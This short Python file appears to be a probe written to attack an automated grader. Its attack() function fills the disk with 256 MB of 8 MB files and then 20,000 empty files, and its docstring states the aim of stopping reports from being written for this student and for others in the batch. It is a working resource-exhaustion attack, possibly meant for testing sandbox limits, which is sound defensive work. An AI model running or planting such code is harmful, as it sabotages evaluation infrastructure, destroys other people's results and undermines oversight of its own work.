"""Fills the disk it writes to: 8 MB files in its working folder up to 256 MB, then 20,000 empty
files, hoping the grader's disk fills up (no report can be written, for this student or the
others of the batch). It keeps what it wrote. It raises, so that its report says so, if more than
96 MB or 8,000 files got through."""

import os

DONE = []


def attack(obj):
    if DONE:
        return
    DONE.append(True)
    chunk, written, made = b"F" * (8 * 1024 * 1024), 0, 0
    try:
        while written < 256:
            with open(f"fill-{written}", "wb") as f:
                f.write(chunk)
            written += 8
    except OSError:
        pass
    try:
        while made < 20000:
            os.close(os.open(f"empty-{made}", os.O_CREAT | os.O_WRONLY, 0o600))
            made += 1
    except OSError:
        pass
    if written > 96 or made > 8000:
        raise RuntimeError(f"REACHED the grader's disk: wrote {written} MB and {made} files")
